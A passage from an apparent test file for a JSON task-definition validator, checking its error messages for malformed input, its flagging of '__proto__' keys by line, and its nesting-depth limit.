    ['{} {}', 'Invalid JSON at line 1, column 4: there is text after the end of the JSON.'],
    [
      "{'a':1}",
      'Invalid JSON at line 1, column 2: this is not valid JSON (single quotes or a comment?).',
    ],
    ['{"a":"b', 'Invalid JSON at line 1, column 6: a string is not closed.'],
    ['{/* c */}', 'Invalid JSON at line 1, column 2: JSON has no comments.'],
    ['{"a":1}\n// c', 'Invalid JSON at line 2, column 1: JSON has no comments.'],
    ['{\n"a":\n1 2}', 'Invalid JSON at line 3, column 3: a comma is missing before this.'],
  ])('says where %j breaks, and why', (text, message) => {
    expect(problems(text).map((p) => p.message)).toEqual([message]);
  });

  it.each(['', '  \n\t '])('asks for a task definition when the text is blank (%j)', (text) => {
    expect(problems(text)).toEqual([
      { path: [], line: 1, message: 'Paste a task definition: the JSON is empty.' },
    ]);
  });

  it('lists "__proto__" keys top to bottom', () => {
    const text =
      '{\n  "__proto__": {},\n  "family": "web",\n  "containerDefinitions": [\n    {"__proto__": {"image": "x"}}\n  ]\n}';
    expect(problems(text).map((p) => p.line)).toEqual([2, 5]);
  });
});

describe('nestingDepth', () => {
  const deep = '['.repeat(MAX_DEPTH + 1);
  it.each<[string, string, { depth: number; line: number }]>([
    ['closed brackets never add up', '[]'.repeat(50), { depth: 0, line: 0 }],
    ['closed braces never add up', '{}'.repeat(50), { depth: 0, line: 0 }],
    ['mixed', '[{}]'.repeat(50), { depth: 0, line: 0 }],
    ['brackets in a string', `"${deep}"`, { depth: 0, line: 0 }],
    ['after an escaped quote, still in the string', `"\\"${deep}"`, { depth: 0, line: 0 }],
    ['after an escaped backslash, out of the string', `"\\\\"${deep}`, { depth: 33, line: 1 }],
    ['too deep, on line 2', `\n${deep}`, { depth: 33, line: 2 }],
    ['braces too', `${'{"a":'.repeat(MAX_DEPTH + 1)}`, { depth: 33, line: 1 }],
    ['exactly the most', '['.repeat(MAX_DEPTH), { depth: 0, line: 0 }],
  ])('%s', (_, text, expected) => {
    expect(nestingDepth(text)).toEqual(expected);
  });
});
